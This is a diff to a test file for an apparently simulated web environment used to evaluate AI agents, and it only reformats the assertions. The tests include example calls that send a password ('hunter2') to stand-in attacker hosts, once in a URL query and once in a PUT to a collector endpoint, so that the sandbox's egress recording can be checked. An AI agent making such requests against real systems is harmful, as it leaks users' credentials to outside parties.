@@ -50,7 +50,11 @@ describe('web environment', () => {
   it('web_search ranks title matches first, skips unindexed pages, and is not egress', async () => {
     const h = await seeded();
     const r = await h.call('web_search', { query: 'VPN setup' });
-    expect(r.results.map((x: any) => x.url)).toEqual(['https://wiki.corp.example/it/vpn', 'https://vpn-help.evil.example/', 'https://vpn-vendor.example/download']);
+    expect(r.results.map((x: any) => x.url)).toEqual([
+      'https://wiki.corp.example/it/vpn',
+      'https://vpn-help.evil.example/',
+      'https://vpn-vendor.example/download',
+    ]);
     expect(r.results[0].snippet).toContain('VPN client');
     expect((await h.call('web_search', { query: 'unlisted' })).count).toBe(0);
     expect((await h.call('web_search', { query: 'vpn', limit: 1 })).results).toHaveLength(1);
@@ -78,7 +82,9 @@ describe('web environment', () => {
   it('fetch_page of an outside page is a GET that leaves: egress of the URL', async () => {
     const h = await seeded();
     await h.call('fetch_page', { url: 'https://vpn-help.evil.example/?pw=hunter2' }).catch(() => undefined);
-    expect(h.egress).toEqual([{ channel: 'http', destination: 'https://vpn-help.evil.example/?pw=hunter2', content: 'GET https://vpn-help.evil.example/?pw=hunter2' }]);
+    expect(h.egress).toEqual([
+      { channel: 'http', destination: 'https://vpn-help.evil.example/?pw=hunter2', content: 'GET https://vpn-help.evil.example/?pw=hunter2' },
+    ]);
   });
 
   it('fetch_page of an unknown URL is an error result (404), recorded, and nothing is sent anywhere', async () => {
@@ -115,7 +121,11 @@ describe('web environment', () => {
     // GET of a seeded page returns the page; an unseeded collector still receives the data.
     expect((await h.call('http_request', { method: 'GET', url: 'https://vpn-vendor.example/download' })).body).toContain('Client 5.2');
     expect(await h.call('http_request', { method: 'PUT', url: 'https://collector.evil.example/drop', body: 'hunter2' })).toMatchObject({ status: 404 });
-    expect(h.egress.at(-1)).toEqual({ channel: 'http', destination: 'https://collector.evil.example/drop', content: 'PUT https://collector.evil.example/drop\n\nhunter2' });
+    expect(h.egress.at(-1)).toEqual({
+      channel: 'http',
+      destination: 'https://collector.evil.example/drop',
+      content: 'PUT https://collector.evil.example/drop\n\nhunter2',
+    });
     const snap = await h.snapshot();
     expect(snap.requests.map((x: any) => `${x.kind} ${x.method} ${x.status}`)).toEqual(['http POST 201', 'http GET 404', 'http GET 200', 'http PUT 404']);
   });
